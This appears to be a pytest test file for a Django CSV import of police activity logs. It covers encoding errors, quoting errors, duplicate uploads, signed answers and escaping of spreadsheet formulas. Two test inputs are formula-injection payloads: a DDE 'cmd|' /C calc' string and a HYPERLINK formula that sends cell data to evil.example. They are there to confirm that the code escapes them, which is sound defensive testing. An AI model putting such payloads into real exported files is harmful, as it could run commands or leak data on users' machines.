def test_a_utf8_file_with_one_bad_byte_is_refused_not_stored_as_mojibake(world):
    good = _csv(
        f"{world.police.pk};2026-03-15;1;Tranås torg;;", f"{world.joint.pk};2026-03-16;1;;;"
    )
    bad = f"\r\n{world.police.pk};2026-03-17;1;Storg".encode() + b"\xe5" + b"tan;;"
    result = _import(world, good + bad)
    assert result.file_errors == [gettext(BROKEN_UTF8) % {"line": 4}]
    assert not ActivityLog.objects.exists()


def test_a_windows_1252_file_stores_tranas_torg_as_written(world):
    data = _csv(f"{world.police.pk};2026-03-15;1;Tranås torg;Kontroll;", encoding="cp1252")
    assert _import(world, data).error_count == 0
    assert ActivityLog.objects.get().place == "Tranås torg"


def test_a_shift_jis_file_is_refused_with_a_swedish_message_naming_the_encodings(client, world):
    sign_in(client, world.user)
    data = _csv(f"{world.police.pk};2026-03-15;1;テスト;;", encoding="shift_jis")
    response = _post(client, world, data)
    assert response.status_code == 200
    assert response.context["result"].file_errors == [gettext(UNKNOWN_ENCODING)]
    content = response.content.decode()
    assert "Filens teckenkodning" in content and "Windows-1252" in content
    assert not ActivityLog.objects.exists()


NO_HEADER = "The file has no header row: it holds only separators and blanks."


@pytest.mark.parametrize(
    "data", [b";", b'" "', b";;;\r\n", b'\xef\xbb\xbf;\r\n"";" "\r\n', b",,\n"]
)
def test_a_file_of_only_separators_or_blank_quotes_is_a_file_error(world, data):
    assert parse_csv(data).error == gettext(NO_HEADER)
    result = _import(world, data)
    assert result.file_errors == [gettext(NO_HEADER)] and result.saved == []
    assert not ActivityLog.objects.exists()


def test_a_file_of_only_separators_shows_a_swedish_message_not_a_server_error(client, world):
    sign_in(client, world.user)
    response = _post(client, world, b";")
    assert response.status_code == 200
    assert "Filen saknar rubrikrad" in response.content.decode()


UNCLOSED = (
    "Row %(row)s has a quotation mark that is not closed, or text right after a closing "
    "quotation mark. Check the quotation marks from that row on."
)


@pytest.mark.parametrize(
    "rows,row",
    [
        (('ID;2026-03-15;1;"Storgatan;;', "ID;2026-03-16;1;Torget;;"), 2),
        (("ID;2026-03-15;1;Storgatan;;", "", 'ID;2026-03-16;1;"Torget;;', "ID;2026-03-17;1;;;"), 4),
        (('ID;2026-03-15;1;"Stor"gatan;;',), 2),
        (('ID;2026-03-15;1;"Torget";"Rad ett', 'rad två";', 'ID;2026-03-16;1;"Park;;'), 3),
    ],
    ids=["unclosed swallows the rest", "after a blank line", "text after quote", "after multiline"],
)
def test_malformed_quoting_is_refused_with_the_row_it_starts_on(world, rows, row):
    data = _csv(*(line.replace("ID", str(world.police.pk)) for line in rows))
    assert parse_csv(data).error == gettext(UNCLOSED) % {"row": row}
    result = _import(world, data)
    assert result.file_errors == [gettext(UNCLOSED) % {"row": row}]
    assert not ActivityLog.objects.exists()


def test_safe_cell_puts_an_apostrophe_before_text_a_spreadsheet_would_run():
    from activities.spreadsheet import safe_cell

    for text in ("=1+1", "+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\tx", "\rx"):
        assert safe_cell(text) == "'" + text
    for value in ("Trafikkontroll", "2026-01-01", "", "a=b", "'=x"):
        assert safe_cell(value) == value
    for value in (-3, 12, datetime.date(2026, 1, 1), None):
        assert safe_cell(value) is value


def _template_rows(client):
    """The template download and its rows as the import reads them."""
    response = client.get(reverse("activities:log_import") + "?mall=1")
    assert response.status_code == 200
    parsed = parse_csv(response.content)
    assert parsed.error is None and parsed.row_errors == []
    return response, [values for _, values in parsed.rows]


def test_the_template_proposes_a_loggable_date_and_imports_unchanged_with_no_errors(client, world):
    today = _in_force_period_today(world)
    ended = factories.period(
        "vetlanda", start=today - datetime.timedelta(days=400), end=today - datetime.timedelta(10)
    )
    not_started = factories.period(
        "vetlanda", start=today + datetime.timedelta(days=10), end=today + datetime.timedelta(300)
    )
    ended_activity = factories.activity(ended, "Avslutad kontroll")
    future_activity = factories.activity(not_started, "Kommande kontroll")
    sign_in(client, world.user)
    response, values = _template_rows(client)
    dates = {int(row["aktivitet_id"]): row["datum"] for row in values}
    assert dates == {
        world.police.pk: today.isoformat(),
        world.joint.pk: today.isoformat(),
        ended_activity.pk: ended.end_date.isoformat(),
    }
    assert future_activity.pk not in dates
    assert {row["aktivitet_namn"] for row in values} >= {"Trafikkontroller", "Avslutad kontroll"}
    upload = _post_template(client, world, response.content)
    assert upload.status_code == 302
    assert sorted(ActivityLog.objects.values_list("activity_id", "date")) == sorted(
        [
            (world.police.pk, today),
            (world.joint.pk, today),
            (ended_activity.pk, ended.end_date),
        ]
    )


def test_template_date_follows_the_log_forms_rule(world):
    period = world.period  # 2026-01-01 to 2026-12-31
    activity = world.police
    assert csv_import.template_date(activity, datetime.date(2026, 6, 15)) == datetime.date(
        2026, 6, 15
    )
    assert csv_import.template_date(activity, datetime.date(2026, 1, 1)) == period.start_date
    assert csv_import.template_date(activity, datetime.date(2027, 3, 1)) == period.end_date
    assert csv_import.template_date(activity, datetime.date(2025, 12, 31)) is None


def test_the_template_puts_an_apostrophe_before_activity_names_that_start_like_formulas(
    client, world
):
    _in_force_period_today(world)
    world.police.title = '=HYPERLINK("http://evil.example/?d="&A1,"Klicka")'
    world.police.save()
    world.joint.title = "-2+3+cmd|' /C calc'!A0"
    world.joint.save()
    sign_in(client, world.user)
    response, values = _template_rows(client)
    assert [row["aktivitet_namn"] for row in values] == [
        "'" + world.police.title,
        "'" + world.joint.title,
    ]
    assert [row["aktivitet_id"] for row in values] == [str(world.police.pk), str(world.joint.pk)]
    assert _post_template(client, world, response.content).status_code == 302
    assert ActivityLog.objects.count() == 2


def test_a_file_uploaded_again_is_asked_about_and_only_its_new_rows_may_be_saved(client, world):
    today = _in_force_period_today(world)
    sign_in(client, world.user)
    first = _csv(f"{world.police.pk};{today};2;Torget;Kontroll;")
    assert _post(client, world, first).status_code == 302
    again = _csv(
        f"{world.police.pk};{today};2;Torget;Kontroll;", f"{world.joint.pk};{today};1;Parken;;"
    )

    asked = _post(client, world, again)

    assert asked.status_code == 200
    page = " ".join(asked.content.decode().split())
    assert "Rad 2: Samma som en logg som sparades" in page and "av Polis Testsson." in page
    assert "Spara bara den 1 nya raden" in page and "Spara alla 2 rader" in page
    assert ActivityLog.objects.count() == 1
    answer = {"upload": asked.context["upload"], "answer": "new"}
    saved = client.post(reverse("activities:log_import"), answer)
    assert saved.status_code == 302
    assert sorted(ActivityLog.objects.values_list("place", flat=True)) == ["Parken", "Torget"]
    # The same answer sent again saves nothing more (each row's key).
    client.post(reverse("activities:log_import"), answer)
    assert ActivityLog.objects.count() == 2


def test_an_answer_whose_file_was_not_signed_here_saves_nothing(client, world):
    _in_force_period_today(world)
    sign_in(client, world.user)
    forged = {"upload": "eyJmaWxlIjoiIn0:forged", "answer": "all"}
    response = client.post(reverse("activities:log_import"), forged, follow=True)
    assert UPLOAD_UNREAD in response.content.decode()
    assert not ActivityLog.objects.exists()


UPLOAD_UNREAD = "Filen kunde inte läsas eller har väntat mer än två timmar. Ladda upp den igen."


def _asked(client, world):
    """An upload of the template unchanged, asked about: its signed answer form."""
    _in_force_period_today(world)
    sign_in(client, world.user)
    response, _rows = _template_rows(client)
    asked = _post(client, world, response.content)
    assert asked.status_code == 200
    return {"upload": asked.context["upload"], "answer": "all"}


def test_an_answer_that_waited_too_long_saves_nothing(client, world):
    answer = _asked(client, world)
    later = timezone.now() + csv_import_views.PAYLOAD_MAX_AGE + datetime.timedelta(minutes=1)
    with time_machine.travel(later):
        response = client.post(reverse("activities:log_import"), answer, follow=True)
    assert UPLOAD_UNREAD in response.content.decode()
    assert not ActivityLog.objects.exists()
    # Within the time, the same answer saves.
    assert client.post(reverse("activities:log_import"), answer).status_code == 302
    assert ActivityLog.objects.exists()


def test_an_answer_sent_by_another_user_saves_nothing(client, world):
    answer = _asked(client, world)
    # A colleague in the same area, who may import the same rows, but did not upload this file.
    colleague = staff_user("kollega", role=Role.POLICE_OFFICER, local_police_area=world.area)
    sign_in(client, colleague)
    response = client.post(reverse("activities:log_import"), answer, follow=True)
    assert UPLOAD_UNREAD in response.content.decode()
    assert not ActivityLog.objects.exists()


def test_an_import_makes_the_pages_stale_once_per_key_not_once_per_row(world, monkeypatch):
    """The rows are saved in one transaction (`public_cache.many_writes`): one round trip to
    the cache per version key, not one per row (12 s for 1,000 rows with the file cache)."""
    from config import public_cache

    rows = [f"{world.police.pk};2026-03-{day:02};1;Torget {day};;" for day in range(1, 29)]
    replaced = []
    monkeypatch.setattr(public_cache, "new_version", lambda keys=(): replaced.append(keys))
    result = _import(world, _csv(*rows))
    assert len(result.saved) == 28
    written = [key for keys in replaced for key in keys]
    assert written and len(written) == len(set(written))  # each key once
